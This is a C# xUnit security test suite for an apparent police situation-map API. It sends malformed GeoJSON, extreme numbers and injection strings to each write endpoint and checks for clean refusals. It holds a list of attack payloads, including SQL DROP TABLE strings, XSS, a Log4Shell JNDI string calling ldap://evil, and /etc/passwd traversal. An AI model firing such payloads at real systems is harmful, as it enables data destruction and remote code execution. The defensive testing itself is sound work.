using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Routing;
using Microsoft.AspNetCore.SignalR;
using Microsoft.AspNetCore.SignalR.Client;
using Microsoft.Extensions.DependencyInjection;
using SituationMap.Testing;
using Xunit.Abstractions;
using static SituationMap.Testing.Api;

namespace SituationMap.Server.Tests.Security;

/// <summary>
/// The bad-input suite at every write and import path: each layer's POST and PUT, incident status, external upsert and
/// dispatch, the computation POSTs, building and file imports, account and token administration, sign-in and
/// sign-out, and the live hub's Subscribe. Every hostile case must end in a 4xx application/problem+json whose detail
/// or errors name the place (JSON pointer, query parameter or file), with the change log and the tables it could
/// touch unchanged; every injection string in a text field is stored byte for byte or refused with a 400 naming the
/// field. The first test pins the list of write endpoints, so a new one fails the suite until it has cases here.
/// </summary>
public sealed class WritePathHostileInputTests(ServerFixture server, ITestOutputHelper output) : IClassFixture<ServerFixture>
{
    /// <summary>Every non-GET endpoint and the test that throws hostile input at it.</summary>
    private static readonly Dictionary<string, string> Covered = new(StringComparer.Ordinal)
    {
        ["POST /api/incidents/"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["PUT /api/incidents/{id:long}"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["DELETE /api/incidents/{id:long}"] = nameof(DeletesOfWhatIsNotThereAreRefusedCleanly),
        ["POST /api/cameras/"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["PUT /api/cameras/{id:long}"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["DELETE /api/cameras/{id:long}"] = nameof(DeletesOfWhatIsNotThereAreRefusedCleanly),
        ["POST /api/zones/"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["PUT /api/zones/{id:long}"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["DELETE /api/zones/{id:long}"] = nameof(DeletesOfWhatIsNotThereAreRefusedCleanly),
        ["POST /api/districts/"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["PUT /api/districts/{id:long}"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["DELETE /api/districts/{id:long}"] = nameof(DeletesOfWhatIsNotThereAreRefusedCleanly),
        ["POST /api/patrol-routes/"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["PUT /api/patrol-routes/{id:long}"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["DELETE /api/patrol-routes/{id:long}"] = nameof(DeletesOfWhatIsNotThereAreRefusedCleanly),
        ["POST /api/patrol-units/"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["PUT /api/patrol-units/{id:long}"] = nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace),
        ["DELETE /api/patrol-units/{id:long}"] = nameof(DeletesOfWhatIsNotThereAreRefusedCleanly),
        ["POST /api/patrol-units/positions"] = nameof(PositionBatchesAreRefusedCleanly),
        ["POST /api/incidents/{id:long}/status"] = nameof(IncidentStatusChangesAreRefusedCleanly),
        ["PUT /api/incidents/external/{source}/{externalId}"] = nameof(ExternalUpsertsAreRefusedCleanlyOrStoredExactly),
        ["POST /api/incidents/{id:long}/dispatch"] = nameof(DispatchRequestsAreRefusedCleanly),
        ["POST /api/routing/route"] = nameof(ComputationRequestsAreRefusedCleanly),
        ["POST /api/coverage/recommendations"] = nameof(ComputationRequestsAreRefusedCleanly),
        ["POST /api/coverage/scenarios/evaluate"] = nameof(ComputationRequestsAreRefusedCleanly),
        ["POST /api/patrols/suggest"] = nameof(ComputationRequestsAreRefusedCleanly),
        ["PUT /api/buildings/sources/{source}"] = nameof(BuildingImportsAreRefusedCleanlyOrStoredExactly),
        ["POST /api/imports/"] = nameof(HostileImportFilesAreRefusedAndWriteNothing),
        ["POST /api/admin/accounts"] = nameof(AccountAndTokenWritesAreRefusedCleanlyOrStoredExactly),
        ["PUT /api/admin/accounts/{id:long}"] = nameof(AccountAndTokenWritesAreRefusedCleanlyOrStoredExactly),
        ["POST /api/admin/accounts/{id:long}/tokens"] = nameof(AccountAndTokenWritesAreRefusedCleanlyOrStoredExactly),
        ["DELETE /api/admin/tokens/{id:long}"] = nameof(DeletesOfWhatIsNotThereAreRefusedCleanly),
        ["POST /api/auth/sign-in"] = nameof(SignInRefusesHostileBodiesWithoutSigningAnyoneIn),
        ["POST /api/auth/sign-out"] = nameof(SignInRefusesHostileBodiesWithoutSigningAnyoneIn),
    };

    private static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE incidents; --", "Robert'); DROP TABLE cameras;--", "1; SELECT pg_sleep(10)--", "$$; DELETE FROM zones; $$",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "${jndi:ldap://evil/x}", "{{7*7}}",
        "../../../../etc/passwd", "%00%27", "\\u0000 \\x27", "\u202Eevil\u202C", "😀🚓 界", "a\u0000b",
    ];

    private static readonly string Enormous = new('x', 1_000_000);

    private readonly HttpClient _client = server.CreateClient();
    private int _tried;

    // ---------------------------------------------------------------- the endpoint list

    [Fact]
    public void EveryWriteEndpointHasHostileInputCases()
    {
        var writes = server.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .SelectMany(e => (e.Metadata.GetMetadata<HttpMethodMetadata>()?.HttpMethods ?? []).Where(m => m != "GET" && m != "HEAD" && m != "OPTIONS")
                .Select(m => $"{m} {e.RoutePattern.RawText}"))
            .ToHashSet(StringComparer.Ordinal);
        var missing = writes.Except(Covered.Keys).Order(StringComparer.Ordinal).ToList();
        var stale = Covered.Keys.Except(writes).Order(StringComparer.Ordinal).ToList();
        Assert.True(missing.Count == 0, "write endpoints without bad-input cases (add them to WritePathHostileInputTests): " + string.Join(", ", missing));
        Assert.True(stale.Count == 0, "covered endpoints that no longer exist: " + string.Join(", ", stale));
    }

    // ---------------------------------------------------------------- the helpers

    private sealed record Layer(string Route, string Table, Func<JsonObject> Valid, string[] TextFields, (string Field, JsonNode? Value)[] BadValues,
        Func<string, JsonNode> GeometryWith, string[] BadGeometries);

    /// <summary>A geometry with the coordinate token C (replaced by NaN, 1e400… in the raw text).</summary>
    private const string C = "777.125";

    private static readonly string[] PointGeometries =
    [
        """{"type":"LineString","coordinates":[[114.9,40.8],[114.91,40.81]]}""",
        """{"type":"Point","coordinates":[]}""",
        """{"type":"Point","coordinates":[114.9]}""",
        """{"type":"Point","coordinates":[114.9,40.8,1,2]}""",
        """{"type":"Point","coordinates":"114.9,40.8"}""",
        """{"type":"Point","crs":{"type":"name","properties":{"name":"EPSG:3857"}},"coordinates":[12790000,4980000]}""",
        """{"type":"GeometryCollection","geometries":[]}""",
        """{"type":"point","coordinates":[114.9,40.8]}""",
        """{"coordinates":[114.9,40.8]}""",
    ];

    private static readonly string[] AreaGeometries =
    [
        """{"type":"Point","coordinates":[114.9,40.8]}""",
        """{"type":"Polygon","coordinates":[[[114.90,40.80],[114.91,40.81],[114.91,40.80],[114.90,40.81],[114.90,40.80]]]}""",
        """{"type":"Polygon","coordinates":[[[114.90,40.80],[114.91,40.80],[114.91,40.81],[114.905,40.81],[114.905,40.85],[114.905,40.81],[114.90,40.81],[114.90,40.80]]]}""",
        """{"type":"Polygon","coordinates":[[[114.90,40.80],[114.91,40.80],[114.91,40.81],[114.90,40.81]]]}""",
        """{"type":"Polygon","coordinates":[[[114.90,40.80],[114.91,40.80],[114.90,40.80]]]}""",
        """{"type":"Polygon","coordinates":[]}""",
        """{"type":"MultiPolygon","coordinates":[]}""",
        """{"type":"MultiPolygon","coordinates":[[]]}""",
        """{"type":"Polygon","crs":{"type":"name","properties":{"name":"urn:ogc:def:crs:EPSG::2154"}},"coordinates":[[[114.90,40.80],[114.91,40.80],[114.91,40.81],[114.90,40.80]]]}""",
    ];

    private static readonly string[] LineGeometries =
    [
        """{"type":"Polygon","coordinates":[[[114.90,40.80],[114.91,40.80],[114.91,40.81],[114.90,40.80]]]}""",
        """{"type":"LineString","coordinates":[[114.9,40.8]]}""",
        """{"type":"LineString","coordinates":[]}""",
        """{"type":"MultiLineString","coordinates":[[]]}""",
        """{"type":"MultiLineString","coordinates":[[[114.9,40.8],[114.91,40.81]],[[114.9,40.8]]]}""",
        """{"type":"LineString","coordinates":[[114.9,40.8],[114.91,"40.81"]]}""",
        """{"type":"LineString","crs":{"type":"name","properties":{"name":"EPSG:3857"}},"coordinates":[[12790000,4980000],[12790100,4980100]]}""",
    ];

    private static JsonObject Square(string c) => JsonNode.Parse(
        $$"""{"type":"Polygon","coordinates":[[[114.90,40.80],[{{c}},40.80],[114.91,40.81],[114.90,40.81],[114.90,40.80]]]}""")!.AsObject();

    private static readonly Layer[] Layers =
    [
        new("incidents", "incidents", () => Incident(), ["address", "description", "external_id", "source", "district"],
            [("category", "espionage"), ("category", 3), ("severity", "high"), ("severity", 7), ("severity", 1e308), ("status", "exploded"),
             ("occurred_at", "yesterday"), ("occurred_at", "2026-11-01T08:00:00"), ("reported_at", 12), ("version", "seven"), ("suspect_name", "x")],
            c => JsonNode.Parse($$"""{"type":"Point","coordinates":[{{c}},40.8]}""")!, PointGeometries),
        new("cameras", "cameras", () => Camera(), ["name", "owner_unit", "district"],
            [("kind", "laser"), ("heading_deg", "north"), ("heading_deg", 360), ("field_of_view_deg", -1), ("range_m", 1e308), ("mounting_height_m", -3),
             ("status", "melted"), ("privacy_masks", new JsonObject { ["type"] = "Point", ["coordinates"] = new JsonArray(1, 2) }),
             ("preset_headings_deg", new JsonArray(400)), ("installed_at", "soon"), ("name", null)],
            c => JsonNode.Parse($$"""{"type":"Point","coordinates":[{{c}},40.8]}""")!, PointGeometries),
        new("zones", "zones", () => Zone(), ["name", "name_en", "district"],
            [("kind", "volcano"), ("risk_level", 99), ("risk_level", "high"), ("coverage_target", -1), ("coverage_target", 1e308), ("name", null)],
            c => Square(c), AreaGeometries),
        new("districts", "districts",
            () => Feature(Api.Square(114.95, 40.85, 0.01), new JsonObject { ["code"] = "HD" + Guid.NewGuid().ToString("N")[..6], ["name"] = "Hostile district" }),
            ["code", "name", "name_en"],
            [("code", null), ("code", 12), ("name", null), ("name", new JsonArray("a"))],
            c => Square(c), AreaGeometries),
        new("patrol-routes", "patrol_routes",
            () => Feature(Line((114.9, 40.8), (114.91, 40.81)), new JsonObject { ["name"] = "Hostile route", ["level"] = 2, ["mode"] = "vehicle" }),
            ["name", "owner_unit", "district"],
            [("level", 4), ("level", "two"), ("mode", "teleport"), ("status", "lost"),
             ("shift_windows", JsonNode.Parse("""[{"start":"25:00","end":"08:00","days":[1]}]""")),
             ("shift_windows", JsonNode.Parse("""[{"start":"08:00","end":"20:00","days":[9]}]""")), ("shift_windows", "always")],
            c => JsonNode.Parse($$"""{"type":"LineString","coordinates":[[114.9,40.8],[{{c}},40.81]]}""")!, LineGeometries),
        new("patrol-units", "patrol_units",
            () => Feature(Point(), new JsonObject { ["call_sign"] = "HU-" + Guid.NewGuid().ToString("N")[..6], ["level"] = 2, ["mode"] = "vehicle" }),
            ["call_sign", "district"],
            [("level", 0), ("mode", "hover"), ("status", "asleep"), ("speed_mps", -5), ("speed_mps", 1e308), ("heading_deg", 720),
             ("last_seen", "2999-01-01T00:00:00Z"), ("route_id", "first")],
            c => JsonNode.Parse($$"""{"type":"Point","coordinates":[{{c}},40.8]}""")!, PointGeometries),
    ];

    private static readonly string[] HostileNumbers = ["NaN", "Infinity", "-Infinity", "1e400", "-1e400", "200", "-181", "1.7976931348623157e308", "\"114.9\"", "null", "true"];

    private static ByteArrayContent Json(string text, string type = "application/geo+json") => Json(Encoding.UTF8.GetBytes(text), type);

    private static ByteArrayContent Json(byte[] bytes, string type = "application/geo+json")
    {
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = new MediaTypeHeaderValue(type);
        return content;
    }

    private static byte[] WithInvalidUtf8(string json)
    {
        var bytes = Encoding.UTF8.GetBytes(json);
        var at = Array.IndexOf(bytes, (byte)'"', Array.IndexOf(bytes, (byte)':') + 1) + 1;
        return [.. bytes[..at], 0xC3, 0x28, 0xFF, .. bytes[at..]];
    }

    /// <summary>The body's rows in the tables a case could touch, and the change log's head.</summary>
    private async Task<string> StateAsync(string[] tables) =>
        string.Join(",", await Task.WhenAll(tables.Append("change_log_head").Select(t =>
            server.Database.ScalarAsync(t == "change_log_head" ? "SELECT seq FROM change_log_head" : $"SELECT count(*) FROM {t}"))));

    private async Task<HttpResponseMessage> SendAsync(Func<HttpRequestMessage> request, HttpClient? client = null)
    {
        for (var attempt = 0; ; attempt++)
        {
            var response = await (client ?? _client).SendAsync(request());
            // the per-account write limit (token bucket) is not what these cases are about: wait and send again
            if (response.StatusCode != HttpStatusCode.TooManyRequests || attempt > 10) return response;
            await Task.Delay(TimeSpan.FromSeconds(1));
        }
    }

    private static HttpRequestMessage Request(HttpMethod method, string url, HttpContent? content, string? ifMatch = null)
    {
        var request = new HttpRequestMessage(method, url) { Content = content };
        if (ifMatch is not null) request.Headers.TryAddWithoutValidation("If-Match", ifMatch);
        return request;
    }

    /// <summary>
    /// Sends a hostile request and checks the refusal: a 4xx (one of <paramref name="statuses"/> when given),
    /// application/problem+json, <paramref name="where"/> in its errors or detail, and nothing written.
    /// </summary>
    private async Task<JsonElement> RefusedAsync(string name, Func<HttpRequestMessage> request, string where, string[] tables,
        int[]? statuses = null, HttpClient? client = null)
    {
        _tried++;
        var before = await StateAsync(tables);
        var response = await SendAsync(request, client);
        var text = await response.Content.ReadAsStringAsync();
        var code = (int)response.StatusCode;
        Assert.True(code is >= 400 and < 500 && (statuses is null || statuses.Contains(code)),
            $"{name}: expected {(statuses is null ? "4xx" : string.Join("/", statuses))}, got {code} {Shorten(text)}");
        Assert.True(response.Content.Headers.ContentType?.MediaType == "application/problem+json",
            $"{name}: {code} with content type {response.Content.Headers.ContentType} {Shorten(text)}");
        var problem = await response.JsonAsync();
        var said = Said(problem);
        Assert.True(said.Contains(where, StringComparison.Ordinal), $"{name}: expected the problem to name '{where}', got {code} {Shorten(text)}");
        Assert.True(before == await StateAsync(tables), $"{name}: {code} but something was written ({before} → {await StateAsync(tables)})");
        return problem;
    }

    private static string Said(JsonElement problem) =>
        string.Join(" | ", Errors(problem).Append(problem.TryGetProperty("detail", out var d) ? d.GetString() ?? "" : ""));

    private static string Shorten(string s) => s.Length > 400 ? s[..400] + "…" : s;

    // ---------------------------------------------------------------- layers: POST and PUT

    [Fact]
    public async Task EveryLayerRefusesHostileBodiesOnCreateAndReplace()
    {
        foreach (var layer in Layers)
        {
            var existing = await _client.CreateAsync(layer.Route, layer.Valid());
            var id = existing.Id();
            var version = $"\"{existing.Version()}\"";
            string[] tables = [layer.Table, "audit_log"];
            var targets = new (string Verb, HttpMethod Method, string Url, string? IfMatch)[]
            {
                ("POST", HttpMethod.Post, $"/api/{layer.Route}", null),
                ("PUT", HttpMethod.Put, $"/api/{layer.Route}/{id}", version),
            };
            foreach (var (verb, method, url, ifMatch) in targets)
            {
                var valid = layer.Valid().ToJsonString();
                async Task Refused(string what, Func<HttpContent> content, string where, int[]? statuses = null) =>
                    await RefusedAsync($"{verb} {layer.Route}: {what}", () => Request(method, url, content(), ifMatch), where, tables, statuses);

                await Refused("malformed JSON", () => Json(valid[..^5]), "not valid JSON");
                await Refused("trailing comma", () => Json(valid[..^2] + ",}}"), "not valid JSON");
                await Refused("invalid UTF-8", () => Json(WithInvalidUtf8(valid)), "not valid UTF-8");
                await Refused("array body", () => Json("[" + valid + "]"), "must be a GeoJSON Feature object");
                await Refused("string body", () => Json("\"Feature\""), "must be a GeoJSON Feature object");
                await Refused("empty body", () => Json(""), "not valid JSON");
                await Refused("deep nesting", () => Json(new string('[', 5000) + new string(']', 5000)), "not valid JSON");
                await Refused("not a Feature", () => Json("""{"type":"FeatureCollection","features":[]}"""), "/type");
                await Refused("unknown member", () => Json(valid[..^1] + ""","evil":true}"""), "/evil");
                await Refused("text/plain", () => Json(valid, "text/plain"), "application/json", [415]);
                var nullProperties = layer.Valid();
                nullProperties["properties"] = null;
                await Refused("null properties", () => Json(nullProperties.ToJsonString()), "/properties");
                foreach (var number in HostileNumbers)
                {
                    var body = layer.Valid();
                    body["geometry"] = layer.GeometryWith(C);
                    var text = body.ToJsonString().Replace(C, number, StringComparison.Ordinal);
                    var where = number is "NaN" or "Infinity" or "-Infinity" ? "not valid JSON" : "/geometry/coordinates";
                    await Refused($"coordinate {number}", () => Json(text), where);
                }
                foreach (var geometry in layer.BadGeometries)
                {
                    var body = layer.Valid();
                    body["geometry"] = JsonNode.Parse(geometry);
                    await Refused($"geometry {Shorten(geometry)}", () => Json(body.ToJsonString()), "/geometry");
                }
                var nullGeometry = layer.Valid();
                nullGeometry["geometry"] = null;
                await Refused("geometry null", () => Json(nullGeometry.ToJsonString()), "/geometry");
                foreach (var (field, value) in layer.BadValues)
                {
                    await Refused($"{field} = {value?.ToJsonString() ?? "null"}", () => Json(layer.Valid().With(field, value?.DeepClone()).ToJsonString()), "/properties/" + field);
                }
                foreach (var field in layer.TextFields)
                {
                    await Refused($"{field} of a million characters", () => Json(layer.Valid().With(field, Enormous).ToJsonString()), "/properties/" + field);
                    await Refused($"{field} as an object", () => Json(layer.Valid().With(field, new JsonObject { ["$ne"] = 1 }).ToJsonString()), "/properties/" + field);
                }
            }
            await InjectionsAreStoredExactlyOrRefusedAsync(layer, id);
        }
        HostileInputTally.Report(output, nameof(EveryLayerRefusesHostileBodiesOnCreateAndReplace), _tried);
    }

    /// <summary>Each injection string in each text field, on create and on replace: stored byte for byte, or a 400 naming the field.</summary>
    private async Task InjectionsAreStoredExactlyOrRefusedAsync(Layer layer, long id)
    {
        foreach (var field in layer.TextFields)
        {
            foreach (var nasty in Injections)
            {
                // create
                _tried++;
                var before = await StateAsync([layer.Table]);
                var created = await SendAsync(() => Request(HttpMethod.Post, $"/api/{layer.Route}", Body(layer.Valid().With(field, nasty))));
                await StoredExactlyOrRefusedAsync(created, layer, field, nasty, before, $"POST {layer.Route} {field}={nasty}");
                // replace
                _tried++;
                var current = await (await _client.GetAsync($"/api/{layer.Route}/{id}")).JsonAsync();
                var replacement = current.ToNode();
                ((JsonObject)replacement["properties"]!)[field] = nasty + " (2)"; // unique fields must not collide with the create above
                foreach (var served in new[] { "created_at", "updated_at", "view_sector", "length_m", "area_m2", "assigned_incident_id" })
                    ((JsonObject)replacement["properties"]!).Remove(served);
                replacement.Remove("id");
                before = await StateAsync([layer.Table]);
                var replaced = await SendAsync(() => Request(HttpMethod.Put, $"/api/{layer.Route}/{id}", Body(replacement), $"\"{current.Version()}\""));
                await StoredExactlyOrRefusedAsync(replaced, layer, field, nasty + " (2)", before, $"PUT {layer.Route}/{id} {field}={nasty}");
            }
        }
    }

    private async Task StoredExactlyOrRefusedAsync(HttpResponseMessage response, Layer layer, string field, string nasty, string before, string name)
    {
        var body = await response.JsonAsync();
        if (response.IsSuccessStatusCode)
        {
            var stored = await (await _client.GetAsync($"/api/{layer.Route}/{body.Id()}")).JsonAsync();
            Assert.True(stored.GetProperty("properties").GetProperty(field).GetString() == nasty,
                $"{name}: stored as {stored.GetProperty("properties").GetProperty(field)}");
            return;
        }
        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{name}: {(int)response.StatusCode} {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.True(Errors(body).Any(e => e.StartsWith($"/properties/{field}: ", StringComparison.Ordinal)), $"{name}: {body}");
        Assert.Equal(before, await StateAsync([layer.Table]));
    }

    // ---------------------------------------------------------------- incident status, external upsert, dispatch, positions

    [Fact]
    public async Task IncidentStatusChangesAreRefusedCleanly()
    {
        var incident = await _client.CreateAsync("incidents", Incident());
        var url = $"/api/incidents/{incident.Id()}/status";
        var v = incident.Version();
        string[] tables = ["incidents", "audit_log"];
        (string Body, string Where, int[]? Statuses)[] cases =
        [
            ("""{"status":"dispatched","version":""", "not valid JSON", null),
            ("[\"dispatched\"]", "", null),
            ("{}", "/status", null),
            ("""{"status":"exploded","version":V}""", "/status", null),
            ("""{"status":3,"version":V}""", "/status", null),
            ("""{"status":null,"version":V}""", "/status", null),
            ("""{"status":"<script>alert(1)</script>","version":V}""", "/status", null),
            ("""{"status":"dispatched","version":"V"}""", "/version", null),
            ("""{"status":"dispatched","version":1e400}""", "/version", null),
            ("""{"status":"dispatched","version":99999999999}""", "/version", null),
            ("""{"status":"dispatched","version":V,"actor":"admin"}""", "/actor", null),
            ("""{"status":"dispatched","version":-1}""", "version", [409]),
            ("""{"status":"closed","version":V}""", "closed", [409]),
        ];
        foreach (var (body, where, statuses) in cases)
        {
            var text = body.Replace("V", v.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);
            await RefusedAsync($"status {text}", () => Request(HttpMethod.Post, url, Json(text, "application/json")), where, tables, statuses);
        }
        await RefusedAsync("status of no incident", () => Request(HttpMethod.Post, $"/api/incidents/{long.MaxValue}/status", Json("""{"status":"dispatched","version":1}""", "application/json")),
            long.MaxValue.ToString(CultureInfo.InvariantCulture), tables, [404]);
        await RefusedAsync("status with If-Match garbage", () => Request(HttpMethod.Post, url, Json("""{"status":"dispatched"}""", "application/json"), "\"'; DROP TABLE incidents; --\""),
            "version", tables, [412]);
        HostileInputTally.Report(output, nameof(IncidentStatusChangesAreRefusedCleanly), _tried);
    }

    [Fact]
    public async Task ExternalUpsertsAreRefusedCleanlyOrStoredExactly()
    {
        string[] tables = ["incidents", "audit_log"];
        var valid = Incident().ToJsonString();
        await RefusedAsync("external: malformed", () => Request(HttpMethod.Put, "/api/incidents/external/cad/E-1", Json(valid[..^3])), "not valid JSON", tables);
        await RefusedAsync("external: invalid UTF-8", () => Request(HttpMethod.Put, "/api/incidents/external/cad/E-1", Json(WithInvalidUtf8(valid))), "not valid UTF-8", tables);
        await RefusedAsync("external: NaN", () => Request(HttpMethod.Put, "/api/incidents/external/cad/E-1", Json(valid.Replace("114.9", "NaN", StringComparison.Ordinal))), "not valid JSON", tables);
        await RefusedAsync("external: huge longitude", () => Request(HttpMethod.Put, "/api/incidents/external/cad/E-1", Json(Incident(1e300, 40).ToJsonString())), "/geometry/coordinates/0", tables);
        await RefusedAsync("external: unknown category", () => Request(HttpMethod.Put, "/api/incidents/external/cad/E-1", Json(Incident().With("category", "espionage").ToJsonString())), "/properties/category", tables);
        await RefusedAsync("external: enormous description", () => Request(HttpMethod.Put, "/api/incidents/external/cad/E-1", Json(Incident().With("description", Enormous).ToJsonString())), "/properties/description", tables);
        await RefusedAsync("external: enormous id", () => Request(HttpMethod.Put, "/api/incidents/external/cad/" + new string('9', 2000), Json(valid)), "external_id", tables);
        // Kestrel refuses a NUL in the path before the application sees it, so those strings go only into bodies
        foreach (var nasty in Injections.Where(n => !n.Contains('\0', StringComparison.Ordinal)))
        {
            var escaped = Uri.EscapeDataString(nasty);
            // the source is a code: anything else is refused naming it
            await RefusedAsync($"external source {nasty}", () => Request(HttpMethod.Put, $"/api/incidents/external/{escaped}/E-2", Json(valid)), "source", tables, [400, 404]);
            // the external id is free text: stored exactly or refused naming it (ids with '/' too: routing keeps "%2F"
            // escaped in route values, so the server reads the ids from the raw target)
            _tried++;
            var before = await StateAsync(tables);
            var response = await SendAsync(() => Request(HttpMethod.Put, $"/api/incidents/external/cad/{escaped}", Json(valid)));
            var body = await response.JsonAsync();
            if (response.IsSuccessStatusCode)
            {
                var stored = await (await _client.GetAsync($"/api/incidents/{body.Id()}")).JsonAsync();
                Assert.Equal(nasty, stored.GetProperty("properties").GetProperty("external_id").GetString());
            }
            else
            {
                Assert.True((int)response.StatusCode is 400 or 404, $"external id {nasty}: {(int)response.StatusCode} {body}");
                Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
                Assert.Equal(before, await StateAsync(tables));
            }
        }
        HostileInputTally.Report(output, nameof(ExternalUpsertsAreRefusedCleanlyOrStoredExactly), _tried);
    }

    [Fact]
    public async Task DispatchRequestsAreRefusedCleanly()
    {
        var incident = await _client.CreateAsync("incidents", Incident());
        var url = $"/api/incidents/{incident.Id()}/dispatch";
        string[] tables = ["dispatches", "incidents", "patrol_units", "audit_log"];
        (string Body, string Where, int[]? Statuses)[] cases =
        [
            ("""{"unit_id":""", "", [400]),
            ("[1]", "", [400]),
            ("\"unit\"", "", [400]),
            ("""{"unit_id":"first"}""", "unit_id", [400]),
            ("""{"unit_id":1e400}""", "unit_id", [400]),
            ("""{"unit_id":1.5}""", "unit_id", [400]),
            ("""{"unit_id":99999999999999999999999}""", "unit_id", [400]),
            ("""{"unit_id":"' OR '1'='1"}""", "unit_id", [400]),
            ("""{"unit_id":9223372036854775807}""", "9223372036854775807", [400, 404]),
            ("""{"unit_id":-1}""", "-1", [400, 404]),
            ("""{"unit_id":null}""", "unit_id", [400]),
            ("""{"unit_id":1,"force":true}""", "force", [400]),
        ];
        foreach (var (body, where, statuses) in cases)
            await RefusedAsync($"dispatch {body}", () => Request(HttpMethod.Post, url, Json(body, "application/json")), where, tables, statuses);
        await RefusedAsync("dispatch to no incident", () => Request(HttpMethod.Post, $"/api/incidents/{long.MaxValue}/dispatch", Json("""{"unit_id":1}""", "application/json")),
            long.MaxValue.ToString(CultureInfo.InvariantCulture), tables, [404]);
        HostileInputTally.Report(output, nameof(DispatchRequestsAreRefusedCleanly), _tried);
    }

    [Fact]
    public async Task PositionBatchesAreRefusedCleanly()
    {
        string[] tables = ["unit_positions", "patrol_units", "audit_log"];
        var now = Iso(DateTimeOffset.UtcNow.AddSeconds(-5));
        (string Body, string Where)[] cases =
        [
            ("""{"positions":[""", "not valid JSON"),
            ("""{"positions":{}}""", "/positions"),
            ("""{"positions":"all"}""", "/positions"),
            ($$"""{"positions":[{"call_sign":"NOBODY","recorded_at":"{{now}}","longitude":NaN,"latitude":40.8}]}""", "not valid JSON"),
            ($$"""{"positions":[{"call_sign":"NOBODY","recorded_at":"{{now}}","longitude":1e400,"latitude":40.8}]}""", "/positions/0/longitude"),
            ($$"""{"positions":[{"call_sign":"' OR '1'='1","recorded_at":"{{now}}","longitude":114.9,"latitude":40.8}]}""", "/positions/0/call_sign"),
            ($$"""{"positions":[{"unit_id":"x","recorded_at":"{{now}}","longitude":114.9,"latitude":40.8}]}""", "/positions/0/unit_id"),
            ($$"""{"positions":[{"unit_id":1,"recorded_at":"later","longitude":114.9,"latitude":40.8}]}""", "/positions/0/recorded_at"),
            ($$"""{"positions":[{"unit_id":1,"recorded_at":"{{now}}","longitude":114.9,"latitude":40.8,"speed_mps":1e308}]}""", "/positions/0"),
        ];
        foreach (var (body, where) in cases)
            await RefusedAsync($"positions {body}", () => Request(HttpMethod.Post, "/api/patrol-units/positions", Json(body, "application/json")), where, tables);
        HostileInputTally.Report(output, nameof(PositionBatchesAreRefusedCleanly), _tried);
    }

    // ---------------------------------------------------------------- computation POSTs (write nothing, refuse cleanly)

    [Fact]
    public async Task ComputationRequestsAreRefusedCleanly()
    {
        string[] tables = ["cameras", "patrol_routes", "audit_log"];
        (string Url, string Body, string Where)[] cases =
        [
            ("/api/routing/route", """{"mode":"vehicle","waypoints":[[114.9,40.8],""", ""),
            ("/api/routing/route", """{"mode":"teleport","waypoints":[[114.9,40.8],[114.91,40.81]]}""", "mode"),
            ("/api/routing/route", """{"mode":"vehicle","waypoints":[[114.9,40.8],[1e400,40.81]]}""", "waypoints"),
            ("/api/routing/route", """{"mode":"vehicle","waypoints":[[114.9,40.8],[NaN,40.81]]}""", ""),
            ("/api/routing/route", """{"mode":"vehicle","waypoints":[[114.9,40.8],[500,40.81]]}""", "/waypoints/1"),
            ("/api/routing/route", """{"mode":"vehicle","waypoints":[[114.9,40.8]]}""", "/waypoints"),
            ("/api/routing/route", """{"mode":"vehicle","waypoints":"114.9,40.8"}""", "waypoints"),
            ("/api/coverage/recommendations", """{"budget":""", ""),
            ("/api/coverage/recommendations", """{"budget":100000}""", "/budget"),
            ("/api/coverage/recommendations", """{"budget":"many"}""", "budget"),
            ("/api/coverage/recommendations", """{"budget":3,"candidates":{"source":"list","points":[[1e400,1]]}}""", "/candidates/points/0"),
            ("/api/coverage/recommendations", """{"budget":3,"candidates":{"source":"list","points":[[914.9,40.8]]}}""", "/candidates/points/0"),
            ("/api/coverage/recommendations", """{"budget":3,"candidates":{"source":"' OR 1=1 --"}}""", "/candidates/source"),
            ("/api/coverage/recommendations", """{"budget":3,"kind_weights":{"volcano":2}}""", "kind_weights"),
            ("/api/coverage/scenarios/evaluate", """{"changes":""", ""),
            ("/api/coverage/scenarios/evaluate", """{"changes":"all"}""", "changes"),
            ("/api/coverage/scenarios/evaluate", """{"changes":[{"op":"explode"}]}""", "/changes/0"),
            ("/api/patrols/suggest", """{"start":[114.9,""", ""),
            ("/api/patrols/suggest", """{"start":[1e400,40.8],"mode":"foot","minutes":30}""", "start"),
            ("/api/patrols/suggest", """{"start":[114.9,40.8],"mode":"hover","minutes":30}""", "mode"),
            ("/api/patrols/suggest", """{"start":[114.9,40.8],"mode":"foot","minutes":-5}""", "minutes"),
            ("/api/patrols/suggest?days=-1", """{"start":[114.9,40.8],"mode":"foot","minutes":30}""", "?days"),
        ];
        foreach (var (url, body, where) in cases)
            await RefusedAsync($"{url} {body}", () => Request(HttpMethod.Post, url, Json(body, "application/json")), where, tables, [400]);
        HostileInputTally.Report(output, nameof(ComputationRequestsAreRefusedCleanly), _tried);
    }

    // ---------------------------------------------------------------- buildings

    [Fact]
    public async Task BuildingImportsAreRefusedCleanlyOrStoredExactly()
    {
        string[] tables = ["buildings", "audit_log"];
